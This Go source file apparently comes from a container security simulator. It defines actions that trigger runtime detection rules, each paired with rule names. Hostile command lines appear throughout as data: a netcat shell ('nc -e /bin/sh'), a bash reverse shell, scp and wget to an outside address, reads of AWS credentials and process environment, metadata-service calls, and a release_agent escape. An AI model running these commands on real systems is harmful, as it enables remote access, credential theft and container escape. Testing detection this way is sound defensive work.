package simulate

// shim is what starts the programs of a container, so that a shell looks like one that somebody opened from outside.
const shim = "containerd-shim"

func actionsInContainers() []*Action {
	return []*Action{
		one(Action{Name: "shell-in-container", Does: "a shell with a terminal is opened in a container", In: Container,
			Rules: []string{"Terminal shell in container", "Terminal shell in a container"}},
			program("bash").onTTY().under(shim)),
		one(Action{Name: "drop-and-execute", Does: "a program is put into the container and run", In: Container, shows: []string{"eyrie-simulate-"},
			Rules: []string{"Drop and execute new binary in container", "Program that is not part of the image", "Container Drift Detected (open+create)"}},
			program("fetch").does("drop", "/usr/local/bin/eyrie-simulate-new").does("exec", "/usr/local/bin/eyrie-simulate-new")),
		one(Action{Name: "package-manager", Does: "apt-get is started (and does nothing)", In: Container,
			Rules: []string{"Launch Package Management Process in Container", "Package manager in a container"}},
			program("apt-get", "install", "nmap")),
		one(Action{Name: "network-tool", Does: "a network scanner is started (and does nothing)", In: Container,
			Rules: []string{"Launch Suspicious Network Tool in Container"}},
			program("nmap", "-sn", addressOutside)),
		one(Action{Name: "npm-network-tool", Does: "npm starts a network tool", In: Container,
			Rules: []string{"Network Tool Executed During NPM Package Install", "Launch Suspicious Network Tool in Container"}},
			program("nc", addressOutside, "80").under("npm")),
		one(Action{Name: "netcat-in-container", Does: "netcat is told to run a shell (and does nothing)", In: Container,
			Rules: []string{"Netcat Remote Code Execution in Container", "Network tool that runs a program"}},
			program("nc", "-e", "/bin/sh", addressOutside, "4444")),
		one(Action{Name: "copy-out", Does: "scp is started (and does nothing)", In: Container,
			Rules: []string{"Launch Remote File Copy Tools in Container"}},
			program("scp", "/etc/hosts", addressOutside+":")),
		one(Action{Name: "copy-in", Does: "wget is started (and does nothing)", In: Container,
			Rules: []string{"Launch Ingress Remote File Copy Tools in Container"}},
			program("wget", "http://"+addressOutside+"/x")),
		one(Action{Name: "kubectl-in-container", Does: "kubectl is started (and does nothing)", In: Container,
			Rules: []string{"Kubernetes Client Tool Launched in Container"}},
			program("kubectl", "get", "secrets")),
		one(Action{Name: "decode-payload", Does: "base64 is told to decode", In: Container,
			Rules: []string{"Decoding Payload in Container"}},
			program("base64", "-d")),
		one(Action{Name: "read-environ", Does: "a program reads /proc/self/environ", In: Container,
			Rules: []string{"Read environment variable from /proc files"}},
			program("cat", "/proc/self/environ").does("read", "/proc/self/environ")),
		one(Action{Name: "kubectl-cp", Does: "tar reads files as kubectl cp has it do", In: Container, prepare: map[string]string{"/srv/eyrie-simulate/data": "x"},
			Rules: []string{"Exfiltrating Artifacts via Kubernetes Control Plane"}},
			program("tar", "cf", "-", "/srv/eyrie-simulate").does("read", "/srv/eyrie-simulate/data").under(shim)),
		one(Action{Name: "cloud-credentials", Does: "a program reads AWS credentials (an empty file)", In: Container, prepare: map[string]string{"/root/.aws/credentials": ""},
			Rules: []string{"Read of cloud or Kubernetes credentials"}},
			program("cat", "/root/.aws/credentials").does("read", "/root/.aws/credentials")),
		one(Action{Name: "metadata-service", Does: "a program connects to 169.254.169.254 (of the container's own)", In: Container,
			Rules: []string{"Contact EC2 Instance Metadata Service From Container", "Contact cloud metadata service from container", "Instance metadata asked for from a container"}},
			program("curl", "http://"+addressMetadata+"/").does("connect", addressMetadata+":80")),
		one(Action{Name: "reverse-shell", Does: "a shell's standard streams become a connection", In: Container,
			Rules: []string{"Redirect STDOUT/STDIN to Network Connection in Container", "Standard streams on a network connection"}},
			program("bash", "-i").does("streams", addressOutside+":443")),
		one(Action{Name: "node-port", Does: "a program connects to a port that Kubernetes gives to nodes", In: Container,
			Rules: []string{"Unexpected K8s NodePort Connection"}},
			program("client").does("connect", addressOutside+":30080")),
		one(Action{Name: "packet-socket", Does: "a packet socket is opened", In: Container,
			Rules: []string{"Packet socket created in container"}},
			program("sniff").does("packet")),
	}
}

func actionsOnWaysOut() []*Action {
	return []*Action{
		one(Action{Name: "release-agent", Does: "a file named release_agent is written", In: Container,
			Rules: []string{"Detect release_agent File Container Escapes", "Escape by release_agent"}},
			program("sh", "-c", "echo /x > release_agent").does("write", "/release_agent")),
		one(Action{Name: "mount-in-container", Does: "a container mounts a file system (its control groups)", In: Container,
			Rules: []string{"Container reaches for the host"}},
			program("mnt").does("mount")),
		one(Action{Name: "disk-device", Does: "a container opens a disk (a regular file of that name)", In: Container,
			Rules: []string{"Privileged Container Device Access", "Container reaches for the host"}},
			program("dd", "if=/dev/sdz9").does("write", "/dev/sdz9").does("read", "/dev/sdz9")),
		one(Action{Name: "host-path", Does: "a container reads below /host", In: Container, prepare: map[string]string{"/host/etc/hostname": "x"},
			Rules: []string{"Container Access to Host Sensitive Paths"}},
			program("cat", "/host/etc/hostname").does("read", "/host/etc/hostname")),
		one(Action{Name: "unshare", Does: "a program without privileges asks for namespaces", In: Container,
			Rules: []string{"Change namespace privileges via unshare"}},
			program("escape").by(nonRoot).does("unshare")),
		one(Action{Name: "kernel-module", Does: "a container asks to load a kernel module that is none", In: Container,
			Rules: []string{"Linux Kernel Module Injection Detected"}},
			program("insmod", "none.ko").does("module")),
		one(Action{Name: "write-by-descriptor", Does: "a program opens a file for writing by /proc/self/fd", In: Container,
			Rules: []string{"Modify Container Entrypoint"}},
			program("escape").does("reopen", "/tmp/eyrie-simulate")),
		one(Action{Name: "debugfs", Does: "debugfs is started in a privileged container (and does nothing)", In: Container, Needs: needsPrivileged,
			Rules: []string{"Debugfs Launched in Privileged Container"}},
			program("debugfs", "/dev/sda1")),
		one(Action{Name: "mount-program", Does: "mount is started in a privileged container (and does nothing)", In: Container, Needs: needsPrivileged,
			Rules: []string{"Mount Launched in Privileged Container"}},
			program("mount", "/dev/sda1", "/mnt")),
	}
}

// needsPrivileged cannot be had without a runtime: that a container is privileged is known from it alone.
const needsPrivileged = "a container runtime that says the container is privileged"

func actionsOfFirstProcess() []*Action {
	return []*Action{
		one(Action{Name: "capable-container", Does: "the first process of a container has all capabilities", In: Container, init: true,
			Rules: []string{"Launch Excessively Capable Container", "Launch Sensitive Mount Container", "Container Run as Root User"}},
			program("sh", "-c", "true")),
		one(Action{Name: "privileged-container", Does: "the first process of a privileged container", In: Container, init: true, Needs: needsPrivileged,
			Rules: []string{"Launch Privileged Container"}},
			program("sh", "-c", "true")),
	}
}
